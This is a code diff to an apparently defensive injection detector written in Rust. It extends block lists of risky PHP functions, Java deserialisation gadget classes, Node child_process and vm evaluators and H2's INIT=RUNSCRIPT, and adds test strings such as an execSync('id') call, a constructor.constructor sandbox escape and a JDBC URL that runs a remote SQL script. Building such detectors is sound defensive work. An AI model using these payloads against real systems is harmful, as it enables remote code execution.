@@ -66,6 +66,23 @@ pub fn detect(n: &Normalized) -> bool {
         || (n.has(trig::PERCENT_AT) && ognl_static(s))
         || (n.has(trig::BRACE | trig::COLON | trig::QUOTE) && prototype_key(s))
         || serialized_java(s)
+        || runtime_with_payload(s)
+}
+
+/// The JVM's process launchers named with what carries or stages a payload
+/// (`runtime` ... `getProperty`, `FileWriter`, an `Unmarshaller`, XStream's
+/// `Base64Data`): a deserialisation or expression payload, not a sentence
+/// about runtimes.
+fn runtime_with_payload(s: &[u8]) -> bool {
+    (find(s, b"runtime").is_some() || find(s, b"processbuilder").is_some())
+        && [
+            b"getproperty" as &[u8],
+            b"filewriter",
+            b"unmarshaller",
+            b"base64data",
+        ]
+        .iter()
+        .any(|w| find(s, w).is_some())
 }
 
 /// Whether a name ends at `k`: no identifier byte follows.
@@ -127,6 +144,7 @@ const PHP_RISKY: &[&[u8]] = &[
     b"error_reporting",
     b"escapeshellarg",
     b"escapeshellcmd",
+    b"exif_read_data",
     b"file_get_contents",
     b"file_put_contents",
     b"filemtime",
@@ -158,6 +176,7 @@ const PHP_RISKY: &[&[u8]] = &[
     b"get_object_vars",
     b"getallheaders",
     b"getcwd",
+    b"getenv",
     b"gethostbyname",
     b"getlastmod",
     b"getmygid",
@@ -175,10 +194,12 @@ const PHP_RISKY: &[&[u8]] = &[
     b"gzpassthru",
     b"gzread",
     b"gzuncompress",
+    b"header_register_callback",
     b"hex2bin",
     b"highlight_file",
     b"highlight_string",
     b"htmlspecialchars_decode",
+    b"igbinary_unserialize",
     b"ignore_user_abort",
     b"imap_mail",
     b"imap_open",
@@ -206,7 +227,9 @@ const PHP_RISKY: &[&[u8]] = &[
     b"openssl_decrypt",
     b"parse_ini_file",
     b"parse_ini_string",
+    b"parse_str",
     b"passthru",
+    b"pclose",
     b"pcntl_alarm",
     b"pcntl_exec",
     b"pcntl_fork",
@@ -237,6 +260,7 @@ const PHP_RISKY: &[&[u8]] = &[
     b"posix_setuid",
     b"posix_ttyname",
     b"posix_uname",
+    b"preg_filter",
     b"preg_replace_callback",
     b"preg_replace_callback_array",
     b"print_r",
@@ -245,6 +269,7 @@ const PHP_RISKY: &[&[u8]] = &[
     b"proc_nice",
     b"proc_open",
     b"proc_terminate",
+    b"putenv",
     b"quoted_printable_decode",
     b"readgzfile",
     b"readlink",
@@ -260,6 +285,8 @@ const PHP_RISKY: &[&[u8]] = &[
     b"sha1_file",
     b"shell_exec",
     b"show_source",
+    b"simplexml_load_file",
+    b"simplexml_load_string",
     b"socket_accept",
     b"socket_bind",
     b"socket_connect",
@@ -286,6 +313,7 @@ const PHP_RISKY: &[&[u8]] = &[
     b"unserialize",
     b"var_dump",
     b"var_export",
+    b"yaml_parse",
     b"zend_version",
     b"zlib_decode",
 ];
@@ -305,7 +333,9 @@ const PHP_FAMILIES: &[&[u8]] = &[
     b"get_defined_",
     b"imap_",
     b"ini_",
+    b"ldap_",
     b"mb_ereg",
+    b"mcrypt_",
     b"mssql_",
     b"mysql_",
     b"mysqli_",
@@ -389,10 +419,13 @@ const PHP_WORDS: &[&[u8]] = &[
     b"assert",
     b"chmod",
     b"chr",
+    b"constant",
     b"copy",
+    b"define",
     b"echo",
     b"eval",
     b"exec",
+    b"extract",
     b"file",
     b"fopen",
     b"fputs",
@@ -801,8 +834,9 @@ fn attack_name(s: &[u8], name: &[u8], at: usize) -> bool {
 /// Java classes that deserialisation gadget chains, template engines and
 /// expression languages reach for (beyond `rce.rs`'s list), Spring's
 /// class-loader path (Spring4Shell), OGNL's access switches, the JDK's
-/// script shells; and Perl's `%ENV` (`$ENV{PATH}`), which no other
-/// language writes so.
+/// script shells, H2's `INIT=RUNSCRIPT`; Node's synchronous child
+/// processes and `vm` evaluators; and Perl's `%ENV` (`$ENV{PATH}`),
+/// which no other language writes so.
 const JAVA_NAMES: Needles = Needles::new(&[
     b"java.lang.process",
     b"java.lang.unixprocess",
@@ -842,6 +876,32 @@ const JAVA_NAMES: Needles = Needles::new(&[
     b"clojure.core$",
     b"clojure.lang.",
     b"class[classloader]",
+    // Commons Collections functors beyond `rce.rs`'s transformers, and the
+    // framework whose internals OGNL payloads set.
+    b"clonetransformer",
+    b"forclosure",
+    b"instantiatefactory",
+    b"prototypeclonefactory",
+    b"prototypeserializationfactory",
+    b"whileclosure",
+    b"transformingcomparator",
+    b"org.apache.struts",
+    b".getclassloader()",
+    b"defineclass(",
+    b"getenginebyname(",
+    // H2's JDBC URL running a script at connect time.
+    b"init=runscript",
+    b"runscript from",
+    // Node.js: child_process's synchronous calls, the vm module's
+    // evaluators, the Function constructor reached through a value.
+    b"execsync(",
+    b"spawnsync(",
+    b"execfilesync(",
+    b"runinnewcontext(",
+    b"runinthiscontext(",
+    b"runincontext(",
+    b"constructor.constructor(",
+    b"platform.popen(",
     // Perl's environment hash, read or set.
     b"$env{",
 ]);
@@ -892,6 +952,8 @@ const IN_CODE: Needles = Needles::new(&[
     b"eval {",
     b"eval{",
     b"print `",
+    b"eval \"",
+    b"eval '",
     b"puts `",
 ]);
 
@@ -1421,6 +1483,8 @@ mod tests {
             "wp_remote_get('http://x')",
             "array_udiff($a,$b,'system')",
             "(system)(ls);",
+            "exif_read_data($f)",
+            "x';define('x','sys'.'tem');",
             "( [ system ][ 0 ]) { 0} ( ls );",
             "data:application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+",
             "data:image/png;base64,PD89YGlkYDs/Pg==",
@@ -1523,6 +1587,7 @@ mod tests {
             "use IO::Socket;",
             "system \"id\"",
             "Process . spawn (\"id\")",
+            "eval \"system('id')\"",
             "Open3.capture3('id')",
         ] {
             assert!(flags(attack), "{attack}");
@@ -1560,6 +1625,11 @@ mod tests {
             "${jn${lower:d}i:x}",
             "jndi:ldap://1.2.3.4/a",
             "Class.forName(\"java.lang.Runtime\")",
+            "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://10.0.0.1/x.sql'",
+            "<a><runtime/><b>System.getProperty</b></a>",
+            "InstantiateFactory",
+            "require('child_process').execSync('id')",
+            "this.x.constructor.constructor('return process')()",
         ] {
             assert!(flags(attack), "{attack}");
         }
@@ -1573,6 +1643,7 @@ mod tests {
             "Load the driver with Class.forName(\"com.mysql.Driver\") first",
             "ro0abcdef",
             "acedemic",
+            "the runtime reads its configuration property file",
         ] {
             assert!(!flags(benign), "{benign}");
         }
